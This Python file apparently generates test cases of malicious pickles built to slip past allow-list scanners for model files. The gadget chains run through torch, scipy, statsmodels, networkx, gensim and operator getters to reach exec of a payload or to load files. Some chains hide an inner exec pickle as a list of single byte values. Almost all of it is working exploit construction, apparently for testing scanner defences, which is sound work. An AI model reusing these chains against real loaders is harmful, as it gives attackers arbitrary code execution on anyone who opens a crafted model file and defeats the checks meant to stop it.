"""Pickles made of what ordinary models hold, put together so that it acts: states that name methods, states that are mappings, properties
taken by `getattr`, functions that are listed only for one use. Every part may stand on an allow list; the whole may not pass.
"""

from assembler import *
from case import CANARY, PYTHON, add

LOADS = glob("torch.storage", "_load_from_bytes")
GETATTR = glob("__builtin__", "getattr")
EVIL = proto(2) + reduce(glob("__builtin__", "exec"), text(PYTHON)) + STOP
# The payload's bytes, made number by number, so that no value of the pickle is itself a pickle.
HIDDEN = reduce(glob("__builtin__", "bytearray")) + MARK + b"".join(integer(one) for one in EVIL) + APPENDS
ENCODED = reduce(glob("_codecs", "encode"), text(EVIL.decode("latin1")), text("latin1"))


def pairs(items: dict[str, bytes]) -> bytes:
    return MARK + b"".join(text(name) + value for name, value in items.items()) + SETITEMS


def instance(module: str, name: str, state: dict[str, bytes]) -> bytes:
    """An object made without its constructor, and filled."""
    return glob(module, name) + EMPTY_TUPLE + NEWOBJ + EMPTY_DICT + pairs(state) + BUILD


def space(state: dict[str, bytes]) -> bytes:
    return reduce(glob("types", "SimpleNamespace")) + EMPTY_DICT + pairs(state) + BUILD


def ordered(state: dict[str, bytes]) -> bytes:
    return reduce(glob("collections", "OrderedDict")) + pairs(state)


def made(*parts: bytes) -> bytes:
    return proto(2) + b"".join(parts) + STOP


def property_of(instance: bytes, name: str) -> bytes:
    return reduce(GETATTR, instance, text(name))


def called(function: bytes, value: bytes) -> bytes:
    """A call hidden in a property: BSpline.c is `self._asarray(self._c)`."""
    return property_of(instance("scipy.interpolate._bsplines", "BSpline", {"_asarray": function, "_c": value}), "c")


def partial(function: bytes, *arguments: bytes) -> bytes:
    return glob("functools", "partial") + MARK + function + b"".join(arguments) + TUPLE + REDUCE


POLY = glob("numpy", "poly1d") + EMPTY_TUPLE + NEWOBJ
ADD = {"append": LOADS}

# The state is an object that is a dict by nature: its items become attributes, and the next opcode calls one.
for name, state, value in [
    ("ordered", ordered(ADD), HIDDEN),
    ("ordered-encoded", ordered(ADD), ENCODED),
    ("ordered-bytes", ordered(ADD), binbytes(EVIL)),
    ("defaultdict", reduce(glob("collections", "defaultdict")) + pairs(ADD), HIDDEN),
    ("ordered-newobj", glob("collections", "OrderedDict") + EMPTY_TUPLE + NEWOBJ + pairs(ADD), HIDDEN),
    ("dict-call", reduce(glob("__builtin__", "dict")) + pairs(ADD), HIDDEN),
    ("slots", NONE + ordered(ADD) + TUPLE2, HIDDEN),
]:
    add(f"listed/state-{name}", made(POLY, state, BUILD, value, APPEND))
add(
    "listed/state-namespace",
    made(glob("types", "SimpleNamespace"), EMPTY_TUPLE, NEWOBJ, ordered(ADD), BUILD, ENCODED, APPEND),
)
add("listed/state-setstate", made(POLY, ordered({"__setstate__": LOADS}), BUILD, HIDDEN, BUILD))

# `getattr` runs a property, and the property calls what the state gave it.
add("listed/property-spline", made(called(LOADS, HIDDEN)))
LIKELIHOOD = {"model": space({"loglike": LOADS}), "params": HIDDEN, "_cache": EMPTY_DICT}
add(
    "listed/property-likelihood",
    made(property_of(instance("statsmodels.base.model", "LikelihoodModelResults", LIKELIHOOD), "llf")),
)
INVERSE = {"_inv": partial(LOADS, HIDDEN)}
add(
    "listed/property-inverse",
    made(property_of(instance("torch.distributions.transforms", "ExpTransform", INVERSE), "inv")),
)

# Loading calls a method of what the state holds, or of what a listed function is given.
VIEWED = {"_adjdict": EMPTY_DICT, "_graph": space({"nbunch_iter": LOADS})}
VIEW = {"viewer": space(VIEWED), "nbunch": HIDDEN, "data": FALSE, "default": NONE}
add("listed/method-view", made(instance("networkx.classes.reportviews", "OutEdgeDataView", VIEW)))
DETACHED = partial(glob("__builtin__", "max"), list_of(space({"requires_grad_": LOADS})))
PARAMETER = [space({"detach": DETACHED}), HIDDEN, ordered({})]
add("listed/method-parameter", made(reduce(glob("torch._utils", "_rebuild_parameter"), *PARAMETER)))

# Attributes reached step by step, without any function that loads.
GLOBALS = called(
    called(glob("operator", "attrgetter"), text("__init__.__globals__")), glob("scipy.interpolate._bsplines", "BSpline")
)
BUILTINS = called(reduce(glob("operator", "itemgetter"), text("__builtins__")), GLOBALS)
EXEC = called(reduce(glob("operator", "itemgetter"), text("exec")), BUILTINS)
add("listed/getters", made(called(EXEC, text(PYTHON))))

# A listed class has class methods that load files.
for name, module, qualname, method in [
    ("word2vec", "gensim.models.word2vec", "Word2Vec", "load"),
    ("lightning", "pytorch_lightning.core.module", "LightningModule", "load_from_checkpoint"),
    ("statsmodels", "statsmodels.base.model", "LikelihoodModelResults", "load"),
]:
    add(
        f"listed/loads-{name}",
        made(called(property_of(glob(module, qualname), method), text(CANARY))),
        proof=f"open {CANARY}",
    )

# A listed function fills an object by the class's own __setstate__, past what is asked of that class's state.
PASSES = glob("gensim.utils", "identity")
FILLS = glob("torch._tensor", "_rebuild_from_type_v2")


def filled(module: str, name: str, state: bytes) -> bytes:
    kind = glob(module, name)
    return FILLS + MARK + PASSES + kind + kind + EMPTY_TUPLE + NEWOBJ + TUPLE1 + state + TUPLE + REDUCE


TEMPLATE = f"def _parse_args(self): pass\n_parse_args_stats = _parse_args_rvs = _parse_args\n{PYTHON}"
DRAWN = {"_parse_arg_template": text(TEMPLATE), "numargs": integer(0), "moment_type": integer(0)}
DRAWN_STATE = EMPTY_DICT + pairs(DRAWN)
add("listed/filled-distribution", made(filled("scipy.stats._continuous_distns", "norm_gen", DRAWN_STATE)))
# The same without the detour: scipy runs the text.
NORM = glob("scipy.stats._continuous_distns", "norm_gen") + EMPTY_TUPLE + NEWOBJ
add("listed/distribution", made(NORM, DRAWN_STATE, BUILD))
add(
    "listed/distribution-bytes",
    made(NORM, EMPTY_DICT, pairs({**DRAWN, "_parse_arg_template": binbytes(TEMPLATE.encode())}), BUILD),
)
PROSE = {**DRAWN, "__doc__": text("A normal one"), "_parse_arg_template": text("A = 1\n" + TEMPLATE)}
add("listed/distribution-prose", made(NORM, EMPTY_DICT, pairs(PROSE), BUILD))


def formula() -> bytes:
    """statsmodels evaluates the formula of a model's data while that is loaded; before 0.15 the key was `restore_design_info`."""
    import pickle

    import pandas

    frame = pickle.dumps(pandas.DataFrame({"y": [1.0, 2.0, 3.0], "x": [1.0, 2.0, 4.0]}), 2)[2:-1]
    state = {"restore_model_spec": TRUE, "frame": frame, "formula": text(f"y ~ x + I({PYTHON})")}
    return made(filled("statsmodels.base.data", "ModelData", EMPTY_DICT + pairs(state)))


add("listed/filled-formula", formula)
